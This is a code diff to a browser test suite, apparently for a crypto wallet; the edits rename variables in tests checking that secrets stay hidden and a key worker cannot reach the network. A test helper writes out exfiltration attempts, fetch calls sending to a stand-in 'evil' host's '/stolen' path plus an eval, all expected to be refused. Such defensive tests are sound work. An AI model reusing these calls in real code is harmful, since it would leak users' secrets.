@@ -31,7 +31,7 @@ test('default: a whole visit violates no policy, shows no field for a secret in 
   const secrets = deriveSecrets(phrase)
   const seen: [where: string, contents: string][] = []
   const scan = async (where: string, ...pages: Page[]) => {
-    for (const one of [page, getFrame(page), ...pages]) seen.push([where, await readContents(one)])
+    for (const target of [page, getFrame(page), ...pages]) seen.push([where, await readContents(target)])
   }
   await scan('connected')
   await fund(address)
@@ -122,9 +122,9 @@ test('behavior: the key worker reaches no network, and loads no code (D2)', asyn
   try {
     const worker = await getKeyWorker(page)
     const answered: string[] = []
-    page.context().on('response', (one) => answered.push(one.url()))
+    page.context().on('response', (response) => answered.push(response.url()))
     const outcomes = await worker.evaluate(tryEveryWayOut, { evil: host, own: urls.frame })
-    expect(outcomes).toEqual(Object.fromEntries(Object.keys(outcomes).map((way) => [way, 'refused'])))
+    expect(outcomes).toEqual(Object.fromEntries(Object.keys(outcomes).map((name) => [name, 'refused'])))
     expect(Object.keys(outcomes).length).toBeGreaterThanOrEqual(12)
     expect(hits).toEqual([])
     expect(answered.filter((url) => url.includes('stolen'))).toEqual([])
@@ -217,7 +217,7 @@ async function tryEveryWayOut({ evil, own }: { evil: string; own: string }) {
       target.addEventListener('message', resolve)
       target.addEventListener('error', () => reject(new Error('refused')))
     })
-  const ways: Record<string, () => unknown> = {
+  const attempts: Record<string, () => unknown> = {
     'fetch elsewhere': () => fetch(`http://${evil}/stolen`),
     'fetch elsewhere, blind': () => fetch(`http://${evil}/stolen`, { mode: 'no-cors' }),
     'fetch at home': () => fetch(`${own}/stolen`),
@@ -242,7 +242,7 @@ async function tryEveryWayOut({ evil, own }: { evil: string; own: string }) {
     eval: () => new Function('return 1')(),
   }
   const outcomes: Record<string, string> = {}
-  for (const [name, go] of Object.entries(ways)) {
+  for (const [name, go] of Object.entries(attempts)) {
     try {
       await go()
       outcomes[name] = 'went through'
